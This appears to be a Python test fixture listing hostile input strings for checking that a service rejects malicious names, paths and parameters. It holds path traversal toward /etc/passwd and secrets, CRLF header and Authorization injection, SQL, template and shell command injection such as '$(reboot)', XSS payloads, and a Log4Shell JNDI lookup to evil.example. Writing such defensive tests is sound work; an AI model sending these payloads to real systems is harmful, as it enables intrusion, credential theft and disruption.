"""Texts that would like to be more than a name, a path, a parameter, a token or a message."""

from __future__ import annotations

from tests.scenes.scenes import HOSTILE

TEXTS = (
    *(text.replace("\x00", "") for text in HOSTILE),
    *(
        "..",
        "../..",
        "../../api/v1/secrets",
        "..\\..\\secrets",
        "....//....//etc/passwd",
        "/etc/passwd",
        "//evil.example",
    ),
    *(
        "%2e%2e%2f",
        "%252e%252e%252f",
        "digits/../../team-b/pipelines/xyzzy",
        "digits%2f..%2f..%2fpods",
        "digits?watch=true",
    ),
    *("digits#token=x", "digits;a=b", "digits&limit=1", "digits\r\nHost: evil.example", "digits\r\n\r\nGET / HTTP/1.1"),
    *("digits\nAuthorization: Bearer admin", "namespaces", "team-b", "-", ".", "*", "_all", "digits,xyzzy", "a=b,c!=d"),
    *("metadata.name=xyzzy", "'; DROP TABLE pipelines; --", '" or "1"="1', "${jndi:ldap://evil.example/a}", "{{7*7}}"),
    *("$(reboot)", "`reboot`", "|reboot", "&&reboot", "<svg/onload=alert(1)>", "<base href=//evil.example>"),
    *("data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "\u0130stanbul", "\U0001f4a5" * 60),
)
